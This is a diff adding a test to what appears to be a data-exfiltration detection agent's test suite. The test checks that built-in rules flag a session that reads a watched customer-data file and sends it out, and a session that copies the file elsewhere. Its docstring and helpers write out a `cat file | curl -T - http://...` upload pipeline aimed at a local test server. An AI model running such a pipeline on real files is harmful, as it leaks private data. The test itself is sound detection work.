@@ -276,3 +276,48 @@ def test_rules_broken_rule_refused_with_position(t):
     evs = a.stop()
     expect_eq([(get(e, "rule.name"), get(e, "process.pid")) for e in alerts(evs)],
               [("tac-reads", r1.pid), ("head-reads", r2.pid)], "alerts before and after the reload", alerts(evs))
+
+
+def test_rules_builtin_read_then_send_and_copy_out(t):
+    """The built-in pack, on by default: a login session runs `cat W | curl
+    -T - http://127.0.0.1:PORT/`: read-then-send names the session, curl
+    and both steps; another session runs `cp W NEW` outside the watched
+    tree: copy-out. A session that sends without reading first, and one
+    that copies an unwatched file, give none."""
+    from test_egress import UploadServer, curl_pipeline, in_session
+    d, files = crm_files(t, 1, 5000)
+    plain = t.write("plain.csv", b"y" * 5000)
+    out = t.mkdir("out")
+    cfg = {"watch": [{"name": "crm", "tags": ["customer-data"], "paths": [d]}], "heartbeat_interval": 0}
+    up, up2 = UploadServer().start(), UploadServer().start()
+    a = t.start_agent(cfg)
+    sa, _ = in_session(t, curl_pipeline(files[0], up.port))
+    sb, _ = in_session(t, curl_pipeline(plain, up2.port))
+    sc, _ = in_session(t, "cp '%s' '%s/copy.csv'" % (files[0], out))
+    sd, _ = in_session(t, "cp '%s' '%s/plain-copy.csv'" % (plain, out))
+    evs = a.stop()
+    seqs = by_seq(evs)
+    got = alerts(evs)
+    expect_eq(sorted(get(e, "rule.name") for e in got), ["copy-out", "read-then-send"],
+              "alerts of the built-in pack", got)
+    rs = alerts(evs, "read-then-send")[0]
+    check_alert_common(rs, "read-then-send", "T1048", "read-then-send")
+    expect_field(rs, "event.category", "network", "read-then-send")
+    expect_field(rs, "event.severity", 73, "read-then-send")
+    expect_field(rs, "custos.alert.group", {"process.session_id": str(sa)}, "read-then-send")
+    expect_field(rs, "process.name", "curl", "read-then-send")
+    expect_field(rs, "destination.port", up.port, "read-then-send")
+    expect_field(rs, "custos.alert.window", "2m", "read-then-send")
+    first, second = [seqs[s] for s in get(rs, "custos.alert.evidence.seq")]
+    expect((get(first, "process.name"), get(first, "file.path")) == ("cat", files[0]),
+           "the first step: cat reads the watched file", first)
+    expect((get(second, "process.name"), get(second, "event.action"), get(second, "custos.egress")) ==
+           ("curl", "connect", True), "the second: curl connects, egress", second)
+    co = alerts(evs, "copy-out")[0]
+    check_alert_common(co, "copy-out", "T1074", "copy-out")
+    expect_field(co, "custos.alert.group", {"process.session_id": str(sc)}, "copy-out")
+    expect_field(co, "file.path", os.path.join(out, "copy.csv"), "copy-out")
+    expect_field(co, "process.name", "cp", "copy-out")
+    for s in (sb, sd):
+        expect(not [e for e in got if get(e, "process.session_id", None) == s],
+               "no alert for session %d, which read nothing watched" % s, got)
